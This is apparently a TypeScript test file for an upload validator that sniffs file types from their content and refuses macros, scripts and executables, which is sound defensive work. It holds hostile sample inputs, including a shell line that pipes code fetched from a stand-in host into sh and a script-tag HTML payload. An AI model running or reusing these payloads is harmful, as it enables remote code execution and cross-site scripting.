import PizZip from 'pizzip';
import { describe, expect, it } from 'vitest';
import { hostileUploads, realDocx } from '../../test/fixtures/uploads.ts';
import { acceptUpload, type FileKind, refuseHostile, sniffFile } from './file-type.ts';

const hex = (h: string, rest = 32) => Buffer.concat([Buffer.from(h, 'hex'), Buffer.alloc(rest, 1)]);
const zip = (names: string[]) => {
  const z = new PizZip();
  for (const n of names) z.file(n, '<x/>');
  return z.generate({ type: 'nodebuffer' });
};

describe('sniffFile', () => {
  const cases: [string, Buffer, ReturnType<typeof sniffFile>][] = [
    ['PDF', Buffer.from('%PDF-1.7\n%%EOF'), { kind: 'pdf' }],
    ['PNG', hex('89504e470d0a1a0a'), { kind: 'png' }],
    ['JPEG', hex('ffd8ffe0'), { kind: 'jpeg' }],
    ['GIF', Buffer.from('GIF89a......'), { kind: 'gif' }],
    ['WebP', Buffer.from('RIFF\0\0\0\0WEBPVP8 '), { kind: 'webp' }],
    ['OLE (doc/xls)', hex('d0cf11e0a1b11ae1'), { kind: 'ole' }],
    ['xlsx', zip(['[Content_Types].xml', 'xl/workbook.xml']), { kind: 'xlsx' }],
    ['pptx', zip(['[Content_Types].xml', 'ppt/presentation.xml']), { kind: 'pptx' }],
    [
      'docm (macros)',
      zip(['[Content_Types].xml', 'word/document.xml', 'word/vbaProject.bin']),
      { refused: 'macro' },
    ],
    ['a plain zip', zip(['a.txt']), { unknown: true }],
    ['Chinese text', Buffer.from('\uFEFF思想汇报\r\n  我的认识：a < b 时…'), { kind: 'text' }],
    ['SVG with a script', hostileUploads[0].content, { refused: 'svg' }],
    ['HTML', hostileUploads[1].content, { refused: 'html' }],
    ['HTML after text', Buffer.from(`${'说明'.repeat(100)}<script>alert(1)</script>`), { refused: 'html' }],
    ['an HTML comment opening', Buffer.from('  <!-- x --><p>hi'), { refused: 'html' }],
    ['ELF', hostileUploads[3].content, { refused: 'executable' }],
    ['PE (MZ)', hostileUploads[2].content, { refused: 'executable' }],
    ['Mach-O 64', hex('cffaedfe07000001'), { refused: 'executable' }],
    ['a shell script', Buffer.from('#!/bin/sh\ncurl evil | sh\n'), { refused: 'executable' }],
    ['binary noise', hex('0001020304'), { unknown: true }],
    ['invalid UTF-8', Buffer.from([0x41, 0xc3, 0x28]), { unknown: true }],
  ];
  it.each(cases)('%s', (_name, content, expected) => expect(sniffFile(content)).toEqual(expected));

  it('recognises a real Word document', async () => {
    expect(sniffFile(await realDocx())).toEqual({ kind: 'docx' });
  });
});

describe('acceptUpload', () => {
  const documents: FileKind[] = ['pdf', 'docx', 'ole', 'jpeg', 'png', 'text'];
  const refusal = (content: Buffer, name: string, kinds = documents) => {
    try {
      acceptUpload(content, name, kinds);
    } catch (e) {
      return { code: (e as { code: string }).code, message: (e as Error).message };
    }
    return null;
  };

  it('refuses the hostile files under any name, naming the field', () => {
    for (const { what, content, names } of hostileUploads)
      for (const fileName of ['a.pdf', 'a.txt', 'a.png', ...names]) {
        const r = refusal(content, fileName);
        expect(r?.code, `${what} as ${fileName}`).toBe('UNSUPPORTED_MEDIA_TYPE');
        expect(r?.message).toMatch(/^文件：/);
      }
    expect(() => refuseHostile(hostileUploads[1].content, '模板文件')).toThrow(
      '模板文件：含网页或脚本代码（HTML），不能上传',
    );
  });

  it('takes the type from the content and wants a matching extension', () => {
    expect(acceptUpload(Buffer.from('%PDF-1.4'), '申请书.PDF', documents)).toEqual({
      kind: 'pdf',
      mime: 'application/pdf',
    });
    expect(acceptUpload(hex('d0cf11e0a1b11ae1'), '旧.doc', documents).mime).toBe('application/msword');
    expect(acceptUpload(hex('d0cf11e0a1b11ae1'), '旧.xls', documents).mime).toBe('application/vnd.ms-excel');
    expect(refusal(Buffer.from('%PDF-1.4'), 'x.png')?.message).toBe(
      '文件：扩展名 .png 与文件内容（PDF）不符',
    );
    expect(refusal(Buffer.from('%PDF-1.4'), 'noext')?.message).toBe('文件：文件名缺少扩展名（内容是 PDF）');
    expect(refusal(Buffer.from('GIF89a'), 'a.gif')?.message).toMatch(/^文件：只能上传 PDF、Word（docx）/);
  });
});
